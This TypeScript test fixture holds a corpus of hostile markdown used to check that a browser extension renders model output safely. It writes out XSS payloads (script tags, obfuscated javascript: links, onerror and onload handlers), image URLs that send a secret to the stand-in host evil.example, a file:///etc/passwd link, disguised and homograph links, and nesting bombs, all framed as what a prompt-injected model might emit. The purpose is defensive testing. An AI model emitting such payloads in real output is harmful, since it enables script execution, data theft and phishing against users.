/**
 * Hostile model output: what a prompt-injected model could emit to run script, leak
 * data through a request, or disguise a link. Exported so the unit tests render it in
 * jsdom and the e2e suite renders it in the real extension while intercepting network
 * requests (none of {@link HOSTILE_HOSTS} may ever be contacted without a click).
 */

/** Hosts the corpus points at. `.example` is reserved: these never resolve. */
export const HOSTILE_HOSTS = ['evil.example', 'bank.example', 'xn--pple-43d.example'] as const;

/** One hostile input and what a safe rendering must show. */
export type HostileCase = {
  /** Stable id (kebab-case) for test names and e2e reports. */
  readonly id: string;
  /** The attack, in a few words. */
  readonly why: string;
  /** Markdown as the model would emit it. */
  readonly markdown: string;
  /** Text that must be visible in the rendering (e.g. the real URL of a link). */
  readonly visible?: readonly string[];
  /** Number of click-to-load image placeholders the rendering must contain. */
  readonly imagePlaceholders?: number;
};

const JS = 'alert(document.cookie)';
const MB = 1024 * 1024;

/** A fenced code block of about `bytes` characters (the "huge output" case). */
export function hugeCodeBlock(bytes: number = MB): string {
  const line = 'const value = compute("some string", 42); // padding for size\n';
  return '```js\n' + line.repeat(Math.ceil(bytes / line.length)) + '```\n';
}

/** The corpus. Order is irrelevant; ids are unique. */
export const HOSTILE_CORPUS: readonly HostileCase[] = [
  {
    id: 'script-block',
    why: 'raw <script> as an HTML block',
    markdown: `<script>${JS}</script>\n\nafter`,
    visible: ['after', '<script>'],
  },
  {
    id: 'script-inline',
    why: 'raw <script> inside a paragraph',
    markdown: `Hello <script>${JS}</script> world`,
    visible: ['Hello', 'world'],
  },
  {
    id: 'js-link',
    why: 'javascript: link',
    markdown: `[click me](javascript:${JS})`,
    visible: ['click me'],
  },
  {
    id: 'js-link-case',
    why: 'javascript: with mixed case',
    markdown: `[click me](JaVaScRiPt:${JS})`,
    visible: ['click me'],
  },
  {
    id: 'js-link-entities',
    why: 'javascript: spelled with decimal, hex and named character references',
    markdown: [
      `[one](&#106;avascript:${JS})`,
      `[two](&#x6A;&#x61;vascript:${JS})`,
      `[three](javascript&colon;${JS})`,
      `[four](javascript&#58;${JS})`,
    ].join('\n\n'),
    visible: ['one', 'two', 'three', 'four'],
  },
  {
    id: 'js-link-whitespace',
    why: 'javascript: split by tab, newline entity or led by control characters',
    markdown: [
      `[tab](<java\tscript:${JS}>)`,
      `[tab-entity](java&#9;script:${JS})`,
      `[newline-entity](java&#10;script:${JS})`,
      `[leading](<\u0001javascript:${JS}>)`,
      `[spaces](   javascript:${JS})`,
    ].join('\n\n'),
    visible: ['tab', 'tab-entity', 'newline-entity', 'leading', 'spaces'],
  },
  {
    id: 'js-autolink-and-reference',
    why: 'javascript: as an autolink and as a reference definition',
    markdown: `<javascript:${JS}>\n\n[ref link][x]\n\n[x]: javascript:${JS}`,
    visible: ['ref link'],
  },
  {
    id: 'other-schemes',
    why: 'vbscript:, data:, file:, chrome-extension:, protocol-relative and relative links',
    markdown: [
      '[vb](vbscript:msgbox(1))',
      '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
      '[file](file:///etc/passwd)',
      '[ext](chrome-extension://abcdefghijklmnop/options.html)',
      '[moz](moz-extension://abcdefghijklmnop/options.html)',
      '[proto-relative](//evil.example/x)',
      '[relative](/options.html)',
      '[blob](blob:https://evil.example/uuid)',
    ].join('\n\n'),
    visible: ['vb', 'data', 'file', 'ext', 'moz', 'proto-relative', 'relative', 'blob'],
  },
  {
    id: 'raw-anchor',
    why: 'raw <a href> HTML, hostile and benign',
    markdown: `<a href="javascript:${JS}">x</a> and <a href="https://evil.example/">y</a>`,
  },
  {
    id: 'img-onerror',
    why: 'raw <img> with a remote src and an onerror handler',
    markdown: `<img src="https://evil.example/pixel.png?leak=1" onerror="${JS}">\n\ntext <img src=x onerror=${JS}>`,
  },
  {
    id: 'markdown-image-exfil',
    why: 'markdown image whose URL carries data out',
    markdown: '![chart](https://evil.example/collect?q=API_KEY_SECRET_123)',
    visible: ['chart', 'evil.example'],
    imagePlaceholders: 1,
  },
  {
    id: 'markdown-image-reference-and-link',
    why: 'reference-style image, and an image wrapped in a link',
    markdown:
      '![ref][img]\n\n[![inner](https://evil.example/a.png)](https://evil.example/go)\n\n' +
      '[img]: https://evil.example/b.png',
    visible: ['ref', 'inner', 'evil.example/go'],
    imagePlaceholders: 2,
  },
  {
    id: 'data-uri-images',
    why: 'data: image URIs (PNG and SVG with script)',
    markdown:
      '![png](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)\n\n' +
      '![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
    visible: ['png', 'svg'],
    imagePlaceholders: 0,
  },
  {
    id: 'embedding-elements',
    why: 'iframe, object, embed, style, link, meta refresh, base, form',
    markdown: [
      '<iframe src="https://evil.example/frame"></iframe>',
      '<object data="https://evil.example/x.swf"></object>',
      '<embed src="https://evil.example/x.swf">',
      '<style>body{background:url(https://evil.example/css)}</style>',
      '<link rel="stylesheet" href="https://evil.example/s.css">',
      '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
      '<base href="https://evil.example/">',
      '<form action="https://evil.example/"><input name=q><button>go</button></form>',
    ].join('\n\n'),
  },
  {
    id: 'svg-handlers',
    why: 'SVG and MathML with event handlers and script hrefs',
    markdown:
      `<svg onload="${JS}"><a xlink:href="javascript:${JS}"><text>t</text></a></svg>\n\n` +
      `<math><mtext><a href="javascript:${JS}">m</a></mtext></math>\n\n` +
      `inline <svg/onload=${JS}> end`,
    visible: ['end'],
  },
  {
    id: 'entities',
    why: 'HTML entities must decode to text, never to markup',
    markdown: `&lt;script&gt;${JS}&lt;/script&gt; &amp;lt;b&amp;gt; &#60;img src=x onerror=${JS}&#62;`,
    visible: ['<script>', '&lt;b&gt;', '<img src=x'],
  },
  {
    id: 'disguised-links',
    why: 'link text naming another site, credentials trick, homograph host, bidi override',
    markdown: [
      '[https://bank.example/login](https://evil.example/login)',
      '[your bank](https://bank.example@evil.example/)',
      '[apple](https://\u0430pple.example/)',
      '[title trick](https://evil.example/t "onmouseover=alert(1)")',
      '[\u202Egnp.exe](https://evil.example/payload)',
    ].join('\n\n'),
    visible: ['evil.example/login', 'evil.example', 'xn--pple-43d.example', 'evil.example/payload'],
  },
  {
    id: 'html-in-code',
    why: 'HTML inside code spans and fences stays code',
    markdown:
      '`<script>x</script>`\n\n```html\n<img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```',
    visible: ['<script>x</script>', '<img src=x onerror=alert(1)>'],
  },
  {
    id: 'table-with-html',
    why: 'GFM table cells holding HTML and a javascript: link',
    markdown: `| a | b |\n|---|---|\n| <script>${JS}</script> | [x](javascript:${JS}) |\n| line<br>break | <img src=https://evil.example/t.png> |`,
    visible: ['x'],
  },
  {
    id: 'huge-code-block',
    why: '1 MB fenced code block must render (unhighlighted) without freezing',
    markdown: hugeCodeBlock(),
  },
  {
    id: 'deep-nesting',
    why: 'deeply nested quotes and lists (quadratic parse cost): shown as text',
    markdown:
      '> '.repeat(400) +
      'deep quote\n\n' +
      Array.from({ length: 200 }, (_, i) => `${'  '.repeat(i)}- level ${i}`).join('\n'),
    visible: ['deep quote', 'level 199'],
  },
  {
    id: 'nesting-bomb',
    why: 'nesting deep enough to exhaust the parser stack, plus bracket and emphasis runs',
    markdown: '> '.repeat(10_000) + 'bottom\n\n' + '['.repeat(5_000) + '*'.repeat(5_000) + 'x',
    visible: ['bottom'],
  },
  {
    id: 'moderate-nesting',
    why: 'nesting just under the guard still renders as markdown, inert',
    markdown:
      '> '.repeat(20) +
      `[q](javascript:${JS})\n\n` +
      Array.from({ length: 12 }, (_, i) => `${'  '.repeat(i)}- [l${i}](javascript:${JS})`).join(
        '\n',
      ),
    visible: ['q', 'l11'],
  },
];
